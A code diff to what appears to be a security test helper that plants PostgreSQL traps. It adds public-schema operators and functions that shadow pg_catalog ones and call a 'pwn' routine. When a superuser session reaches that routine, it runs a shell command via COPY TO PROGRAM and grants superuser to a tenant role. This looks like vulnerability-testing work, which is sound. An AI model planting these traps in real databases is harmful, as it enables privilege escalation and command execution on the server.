@@ -27,7 +27,7 @@ function pwnFunction(markerDir: string, role: string): string {
   return `
     create function public.pwn(tag text) returns void language plpgsql volatile as $f$
     begin
-      if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
+      if (select rolsuper from pg_catalog.pg_roles where rolname operator(pg_catalog.=) current_user) then
         execute pg_catalog.format('copy (select %L) to program %L', tag, 'cat > ${markerDir}/' || tag || '-' || pg_catalog.pg_backend_pid());
         begin
           execute pg_catalog.format('alter role %I superuser', ${sqlLiteral(role)});
@@ -55,6 +55,40 @@ export function plantTrapsInto(uri: string, role: string, markerDir: string): vo
     create index accounts_trap on public.accounts (id) where public.trap_immutable(1);
     create trigger accounts_trap before insert or update on public.accounts for each row execute function public.trap_row();
     create view public.accounts_view as select id, email from public.accounts where public.trap_immutable(id);
+  `,
+  );
+}
+
+/**
+ * More operators and functions in schema public, each an exact match for arguments that only
+ * reach pg_catalog's own through a cast (so the tenant's wins over pg_catalog's, searched first,
+ * in any session whose search_path holds public): `name LIKE ...`, `name ~ ...`, `oid = 123`,
+ * `oid = bigint`, `quote_ident(name)`, `lower(name)`, `format(text, name)`. Each returns what
+ * pg_catalog's would (the tenant's own queries go on working) after calling public.pwn. Needs
+ * plantTrapsInto first (public.pwn).
+ */
+export function plantCatalogCaptureTraps(uri: string): void {
+  psql(
+    uri,
+    `
+    create function public.trap_like(name, name) returns boolean language plpgsql as $f$
+      begin perform public.pwn('operator_like'); return $1::text operator(pg_catalog.~~) $2::text; end $f$;
+    create operator public.~~ (leftarg = name, rightarg = name, function = public.trap_like);
+    create function public.trap_regex(name, name) returns boolean language plpgsql as $f$
+      begin perform public.pwn('operator_regex'); return $1::text operator(pg_catalog.~) $2::text; end $f$;
+    create operator public.~ (leftarg = name, rightarg = name, function = public.trap_regex);
+    create function public.trap_oid_int(oid, integer) returns boolean language plpgsql as $f$
+      begin perform public.pwn('operator_oid_int'); return $1 operator(pg_catalog.=) $2::oid; end $f$;
+    create operator public.= (leftarg = oid, rightarg = integer, function = public.trap_oid_int);
+    create function public.trap_oid_bigint(oid, bigint) returns boolean language plpgsql as $f$
+      begin perform public.pwn('operator_oid_bigint'); return $1 operator(pg_catalog.=) $2::oid; end $f$;
+    create operator public.= (leftarg = oid, rightarg = bigint, function = public.trap_oid_bigint);
+    create function public.quote_ident(name) returns text language plpgsql as $f$
+      begin perform public.pwn('function_quote_ident'); return pg_catalog.quote_ident($1::text); end $f$;
+    create function public.lower(name) returns text language plpgsql as $f$
+      begin perform public.pwn('function_lower'); return pg_catalog.lower($1::text); end $f$;
+    create function public.format(text, name) returns text language plpgsql as $f$
+      begin perform public.pwn('function_format'); return pg_catalog.format($1, $2); end $f$;
   `,
   );
 }
